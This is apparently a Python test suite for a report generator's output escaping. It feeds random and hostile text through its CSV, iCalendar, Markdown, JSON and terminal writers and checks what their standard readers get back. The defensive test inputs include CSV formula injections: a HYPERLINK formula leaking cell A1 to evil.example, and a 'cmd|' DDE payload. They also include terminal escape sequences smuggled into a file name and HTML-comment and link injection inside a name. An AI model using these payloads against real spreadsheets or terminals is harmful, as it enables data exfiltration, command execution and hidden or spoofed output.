"""Every output safe to open (issue 13): random text (control characters, bidi marks, formula
prefixes, markup) through every output format, each read back with its standard reader: CSV
(``csv``), iCalendar (``icalendar``), CommonMark (``markdown-it-py``) and JSON (``json``).

What a reader gets back is exactly the input's text. The one documented change: a character that
changes how other text shows (docgen.core.safe_text.is_unsafe) is written as a visible escape
(``\\x1b``) in the formats people read (Markdown, iCalendar, a terminal); CSV and JSON carry it
exactly, JSON as a ``\\uXXXX`` escape. A fact can never hold one (the loader refuses it), so for
text a facts file can hold, every format gives back exactly the text.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import date
from pathlib import Path

import icalendar
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from docgen.checker.calendar import as_csv, as_ics
from docgen.checker.views import as_json, as_markdown, as_text
from docgen.core.citations import Citation
from docgen.core.findings import FactsInfo, Finding, Report
from docgen.core.safe_text import csv_uncell, for_terminal, is_unsafe, visible
from docgen.core.windows import ElectionWindow
from docgen.load import load_facts

ROOT = Path(__file__).resolve().parent.parent
TRICKY = list(
    "=+-@'\t\r\n\x00\x07\x1b\x7f\x85\u2028\u2029\u202e\u2066\u200f\ufeff<>&|`*_[]\\#~!:\"; ,"
) + ["<!--", "-->", "[/b]", "[bold]", ":x:", "=HYPERLINK(", "\r<!--", "\\|", "&amp;", "\x1b[2J"]
ANY_TEXT = st.lists(st.one_of(st.characters(), st.sampled_from(TRICKY)), max_size=40).map("".join)
# What a fact may hold: no unsafe character, stripped, not empty (docgen.core.model.Text).
FACT_TEXT = ANY_TEXT.map(lambda t: "".join(c for c in t if not is_unsafe(c)).strip()).filter(bool)
MARKDOWN = MarkdownIt("commonmark").enable("table")
GRANT_FACTS = load_facts(ROOT / "samples" / "director-grant-2026.yaml").facts


def _report(text: str) -> Report:
    finding = Finding(
        rule="RSU-ELECTION-LATE",
        severity="error",
        subject="jsmith",
        path="directors[0].elections[0].filed_on",
        line=21,
        message=text,
        citations=(Citation("Notice", "F.3"),),
    )
    later = Finding(
        rule="RSU-ELECTION-PARTIAL",
        severity="error",
        subject="jsmith",
        path="directors[0].elections[0].percent",
        line=22,
        message="a later finding",
        citations=(Citation("Exhibit I", "III"),),
    )
    return Report.build(
        FactsInfo(file=text, kind="director-rsu-grant", sha256="0" * 64),
        date(2026, 6, 23),
        "grant",
        [finding, later],
        ["jsmith"],
        {"jsmith": text},
    )


def _window(text: str) -> ElectionWindow:
    return ElectionWindow(
        subject="jsmith",
        name=text,
        document="exhibit-i",
        route="exhibit-i",
        rule=f"rule {text}",
        opens_on=date(2026, 5, 1),
        closes_on=date(2026, 6, 22),
        note=text,
    )


# ------------------------------------------------------------------ CSV


@given(ANY_TEXT)
def test_calendar_csv_reads_back_exactly_one_row_of_the_text(text):
    rows = list(csv.reader(io.StringIO(as_csv([_window(text)]), newline="")))
    assert len(rows) == 2, "a CR or LF inside a cell never splits the row"
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert csv_uncell(cells["name"]) == text
    assert csv_uncell(cells["note"]) == text
    for cell in rows[1]:  # nothing a spreadsheet would run as a formula
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


# A person's name holds no invisible format character (Unicode Cf, refused at load: issue 44).
NAME_TEXT = FACT_TEXT.map(
    lambda t: "".join(c for c in t if unicodedata.category(c) != "Cf").strip()
).filter(bool)


@settings(max_examples=40)
@given(NAME_TEXT.filter(lambda t: len(t) <= 200))
def test_compute_csv_and_json_read_back_exactly_the_name(tmp_path_factory, text):
    from docgen.api import compute

    data = json.loads((ROOT / "tests" / "fixtures" / "bad" / "json-bad-date.json").read_text())
    data["participants"][0]["name"] = text
    data["participants"][0]["elections"][0]["made_on"] = "2025-12-10"
    facts = tmp_path_factory.mktemp("compute") / "rrp.json"
    facts.write_text(json.dumps(data), encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(compute(facts, "csv"), newline="")))
    assert len(rows) == 1 and csv_uncell(rows[0]["name"]) == text
    assert not rows[0]["name"].startswith(("=", "+", "-", "@"))
    assert json.loads(compute(facts, "json"))["participants"][0]["name"] == text


# ------------------------------------------------------------------ iCalendar


@given(ANY_TEXT)
def test_ics_reads_back_the_text_with_no_raw_control_character(text):
    data = as_ics([_window(text)], GRANT_FACTS, date(2026, 5, 1)).encode("utf-8")
    body = data.replace(b"\r\n", b"")
    assert not any(is_unsafe(char) for char in body.decode("utf-8"))
    (event,) = icalendar.Calendar.from_ical(data).walk("VEVENT")
    shown = visible(text, keep="\n")
    assert str(event["SUMMARY"]) == f"Last day to elect: {shown} (jsmith), exhibit-i, exhibit-i"
    description = str(event["DESCRIPTION"])
    assert description.startswith(f"Last day: June 22, 2026. Rule: rule {shown}.\n")
    note = f"\nNote: {shown}." if text else ""  # an empty note is no note
    assert description.endswith(f"Opens: May 1, 2026.{note}")


# ------------------------------------------------------------------ Markdown (CommonMark)


def _inline_text(token) -> str:
    """The text of an inline token; fails on anything but plain text (no HTML, link, emphasis,
    code span or line break can have been opened by the input)."""
    kinds = {child.type for child in token.children}
    assert kinds <= {"text"}, kinds
    return "".join(child.content for child in token.children)


@given(ANY_TEXT)
def test_markdown_cells_and_headings_read_back_exactly(text):
    tokens = MARKDOWN.parse(as_markdown(_report(text)))
    assert not [t for t in tokens if t.type == "html_block"]
    headings = [tokens[i + 1] for i, t in enumerate(tokens) if t.type == "heading_open"]
    title = f"Compliance review: {visible(text)}" if text else "Compliance review:"
    assert _inline_text(headings[0]) == title
    label = f"jsmith ({visible(text)})" if text and text != "jsmith" else "jsmith"
    # the part the findings are in heads them (every error first: issue 44)
    assert _inline_text(headings[1]) == "Errors: each stops an issue"
    assert _inline_text(headings[2]) == label
    cells = [tokens[i + 1] for i, t in enumerate(tokens) if t.type == "td_open"]
    assert len(cells) == 10, "two findings, five cells each: no cell split or swallowed"
    assert _inline_text(cells[2]) == visible(text)
    assert _inline_text(cells[7]) == "a later finding"  # nothing hides what follows


# ------------------------------------------------------------------ JSON and the terminal


@given(ANY_TEXT)
def test_check_json_reads_back_exactly_and_carries_no_raw_control(text):
    dumped = as_json(_report(text))
    assert not any(is_unsafe(c) for c in dumped if c != "\n")
    report = json.loads(dumped)
    assert report["facts"]["file"] == text
    assert report["findings"][0]["message"] == text


@given(ANY_TEXT)
def test_terminal_text_has_no_escape_sequence_and_no_markup_read(text):
    shown = as_text(_report(text), width=4000)
    assert not any(is_unsafe(c) for c in shown if c != "\n")
    assert for_terminal(text).strip() in shown


# ------------------------------------------------------------------ through the command line

SAMPLE = (ROOT / "samples" / "director-grant-2026.yaml").read_text(encoding="utf-8")
LATE = (ROOT / "samples" / "problems" / "director-late-and-partial.yaml").read_text()


def _named(tmp_path: Path, name: str, file: str = "grant.yaml", text: str = SAMPLE) -> Path:
    path = tmp_path / file
    path.write_text(text.replace("name: Jane Q. Smith", f"name: {json.dumps(name)}", 1))
    return path


def test_calendar_csv_cells_that_look_like_formulas_are_prefixed(cli, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Jane")'
    result = cli("calendar", _named(tmp_path, formula), "--format", "csv", "--as-of", "2026-05-01")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    jane = [row for row in rows if row["subject"] == "jsmith"]
    assert jane and all(row["name"] == "'" + formula for row in jane)


def test_compute_csv_cells_that_look_like_formulas_are_prefixed(cli, tmp_path):
    text = (ROOT / "samples" / "rrp-2026.yaml").read_text()
    for lead in ("@SUM(A1:A9)", "-2+3", "+cmd|' /C calc'!A0"):
        path = tmp_path / "rrp.yaml"
        path.write_text(text.replace("name: Pat Lee", f"name: {json.dumps(lead)}", 1))
        result = cli("compute", path, "--format", "csv")
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
        assert rows[0]["name"] == "'" + lead


def test_markdown_report_never_lets_a_name_hide_later_findings(cli, tmp_path):
    path = tmp_path / "late.yaml"
    path.write_text(LATE.replace("name: Hal Half", 'name: "Hal <!-- Half [x](http://e.example)"'))
    result = cli("check", path, "--as-of", "2026-06-01", "--format", "md")
    assert result.exit_code == 1
    html = MARKDOWN.render(result.stdout)
    assert "<!--" not in html and "<a " not in html
    assert "Hal &lt;!-- Half [x](http://e.example)" in html
    report = cli("check", path, "--as-of", "2026-06-01", "--format", "json").stdout
    expected = {finding["rule"] for finding in json.loads(report)["findings"]}
    assert expected and all(rule in html for rule in expected)


def test_a_path_with_brackets_prints_as_typed_and_never_as_markup(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = cli("validate", "grant [final].json")
    assert result.exit_code == 2
    assert result.stderr.startswith("grant [final].json: no such file.")
    (tmp_path / "cycle [").mkdir()
    (tmp_path / "cycle [" / "b] late [final].yaml").write_text(LATE)
    result = cli("check", "cycle [/b] late [final].yaml", "--as-of", "2026-06-01")
    assert result.exit_code == 1, result.output  # not 3: "[/b]" is not read as a closing tag
    assert "Findings: cycle [/b] late [final].yaml" in result.stdout


def test_emoji_codes_in_a_message_stay_as_written(cli, tmp_path):
    path = tmp_path / "grant.yaml"
    path.write_text(SAMPLE.replace("units: 2450", 'units: ":x:"', 1))
    result = cli("validate", path)
    assert result.exit_code == 2
    assert "(got :x:)" in result.stderr and "\u274c" not in result.stderr


def test_escape_sequences_in_a_file_name_reach_no_terminal(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    name = "late\x1b[2J\x1b]0;owned\x07.yaml"
    Path(name).write_text(LATE)
    for args in (("validate", name + ".missing"), ("check", name, "--as-of", "2026-06-01")):
        result = cli(*args)
        assert result.exit_code in (1, 2), result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert "late\\x1b[2J\\x1b]0;owned\\x07.yaml" in result.output


def test_ics_of_a_name_with_separators_reads_back_exactly(cli, tmp_path):
    name = 'Smith, Jane; "Q." \\ Esq.'
    result = cli("calendar", _named(tmp_path, name), "--format", "ics", "--as-of", "2026-05-01")
    assert result.exit_code == 0, result.output
    events = icalendar.Calendar.from_ical(result.stdout).walk("VEVENT")
    described = [str(event["DESCRIPTION"]) for event in events]
    assert any(f"{name} (jsmith)" in text for text in described), described


def test_the_progress_bar_prints_no_markup_tag(cli, tmp_path):
    text = SAMPLE.split("  - id: rgarcia")[0]  # one director is enough
    path = tmp_path / "grant.yaml"
    path.write_text(text)
    result = cli("batch", path, "--out", tmp_path / "out", "--as-of", "2026-06-23")
    assert result.exit_code == 0, result.output
    assert "Rendered jsmith" in result.stderr and "[progress" not in result.stderr


def test_the_unsafe_pattern_is_the_unsafe_set():
    """safe_text.UNSAFE (one regex, for speed) holds exactly the characters is_unsafe names."""
    from docgen.core.safe_text import UNSAFE

    for code in range(0x110000):
        char = chr(code)
        assert bool(UNSAFE.fullmatch(char)) == is_unsafe(char), f"U+{code:04X}"


def test_json_text_escapes_every_unsafe_character_but_the_layouts_whitespace():
    """json_text's own pattern (UNSAFE less LF, CR and TAB) escapes exactly the rest."""
    from docgen.core.safe_text import json_text

    for code in range(0x110000):
        char = chr(code)
        kept = not is_unsafe(char) or char in "\n\r\t"
        assert json_text(char) == (char if kept else f"\\u{code:04x}"), f"U+{code:04X}"


def test_a_text_fact_is_refused_for_exactly_the_unsafe_characters():
    """check_text passes plain ASCII without searching it: every character below U+00A0 (and
    the unsafe ones above) is judged as the search judges it, inside a name and alone."""
    from pydantic_core import PydanticCustomError

    from docgen.core.parsers import check_text
    from docgen.core.safe_text import UNSAFE

    for code in [*range(0xA0), 0x200E, 0x202E, 0x2028, 0xFEFF, 0x00E9, 0x0142]:
        for value in (chr(code), f"Ana {chr(code)} Ruiz"):
            refused = UNSAFE.search(value) is not None
            try:
                assert check_text(value) == value
                assert not refused, hex(code)
            except PydanticCustomError:
                assert refused, hex(code)
